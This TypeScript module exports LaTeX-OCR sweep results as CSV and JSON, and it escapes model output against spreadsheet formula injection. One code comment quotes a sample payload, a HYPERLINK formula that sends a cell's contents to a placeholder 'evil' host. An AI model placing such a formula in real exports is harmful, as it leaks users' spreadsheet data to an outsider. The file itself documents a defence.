/**
 * Sweep exports: CSV (the same columns as `npm run stress`) and JSON (everything,
 * settings included). Pure string building; the page turns them into downloads.
 */
import type { SweepResult, SweepRow } from './sweep.ts';

export const CSV_HEADER = ['step', 'value', 'model', 'latex', 'edit_distance', 'mean_confidence', 'ms'] as const;

/** A cell a spreadsheet would run as a formula: starts with =, +, -, @, tab or CR (OWASP). */
const FORMULA_START_RE = /^[=+\-@\t\r]/;
/** A plain decimal number ("-0.5", "+3", "1e-3"): a spreadsheet reads it as a number, never a formula. */
const NUMBER_RE = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

/**
 * One CSV field (RFC 4180): quoted when it holds a comma, a double quote, a line
 * break or leading/trailing spaces, with inner quotes doubled. LaTeX is full of
 * commas and quotes (`f(x, y)`, `f''`), so this matters.
 *
 * Text that a spreadsheet would take for a formula gets a leading single quote (OWASP's
 * CSV-injection advice): the LaTeX column is model output, and a model folder or hub model
 * can "predict" `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)`. Numbers (-0.5) stay numbers.
 */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  let s = typeof value === 'number' ? formatNumber(value) : value;
  if (typeof value === 'string' && FORMULA_START_RE.test(s) && !NUMBER_RE.test(s)) s = `'${s}`;
  return /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export function csvLine(fields: (string | number | null | undefined)[]): string {
  return fields.map(csvField).join(',');
}

/** Numbers without float noise (0.30000000000000004 -> 0.3), at most 6 significant digits. */
export function formatNumber(n: number, digits = 6): string {
  if (!Number.isFinite(n)) return '';
  return String(Number(n.toPrecision(digits)));
}

const round = (n: number | null, places: number) => (n === null ? null : Math.round(n * 10 ** places) / 10 ** places);

/** The CSV line of one row (model column: the model's key or id). */
export function csvRow(r: Pick<SweepRow, 'step' | 'value' | 'model' | 'latex' | 'ned' | 'meanConfidence' | 'ms' | 'error'>): string {
  return csvLine([r.step, r.value, r.model, r.latex, round(r.ned, 4), round(r.meanConfidence, 4), r.error ? null : round(r.ms, 1)]);
}

/** The whole sweep as CSV: header, then one line per (model, step), newline-terminated. */
export function sweepCsv(rows: readonly SweepRow[]): string {
  return [CSV_HEADER.join(','), ...rows.map(csvRow)].join('\n') + '\n';
}

/**
 * Parse CSV text back into records (RFC 4180: quoted fields, doubled quotes, line
 * breaks inside quotes). Used by the tests to check that what we write reads back.
 */
export function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
      } else field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      out.push(row);
      row = [];
      field = '';
    } else field += c;
    i++;
  }
  if (field !== '' || row.length) {
    row.push(field);
    out.push(row);
  }
  return out;
}

export interface SweepJsonMeta {
  /** Name and size of the input image. */
  image?: { name: string; width: number; height: number; origin?: string; exampleId?: string };
  device?: string;
  createdAt?: string;
}

/** The sweep as a JSON document: settings, per-step perturbation, every row with token probabilities. */
export function sweepJson(result: SweepResult, meta: SweepJsonMeta = {}): string {
  const { spec } = result;
  const doc = {
    kind: 'latex-ocr-sweep',
    version: 1,
    createdAt: meta.createdAt ?? new Date().toISOString(),
    image: meta.image ?? null,
    device: meta.device ?? null,
    variable: { id: spec.variable.id, label: spec.variable.label, unit: spec.variable.unit ?? null },
    from: spec.from,
    to: spec.to,
    steps: spec.steps,
    reference: spec.reference,
    basis: spec.reference.trim() ? 'reference' : 'step0',
    models: spec.models,
    complete: result.complete,
    plan: result.plan.map((s) => ({ step: s.index, value: s.value, settings: s.settings, ...(s.strokeWidth !== undefined ? { strokeWidth: s.strokeWidth } : {}) })),
    rows: result.rows.map((r) => ({
      step: r.step,
      value: r.value,
      model: r.model,
      latex: r.latex,
      editDistance: r.ned,
      score: r.score,
      basisLatex: r.basisLatex,
      meanConfidence: r.meanConfidence,
      minConfidence: r.minConfidence,
      ms: r.ms,
      truncated: r.truncated,
      repetition: r.repetition,
      device: r.device ?? null,
      dtype: r.dtype ?? null,
      error: r.error ?? null,
      tokens: r.tokens.map((t) => ({ text: t.text, prob: t.prob, alternatives: t.alternatives })),
    })),
  };
  return JSON.stringify(doc, null, 2) + '\n';
}

/** A file name for downloads: latex-ocr-sweep-<variable>-<timestamp>.<ext>. */
export function exportFileName(variable: string, ext: string, date = new Date()): string {
  const stamp = date.toISOString().replace(/\.\d+Z$/, 'Z').replace(/[:]/g, '-');
  return `latex-ocr-sweep-${variable.replace(/[^a-z0-9_-]/gi, '')}-${stamp}.${ext}`;
}
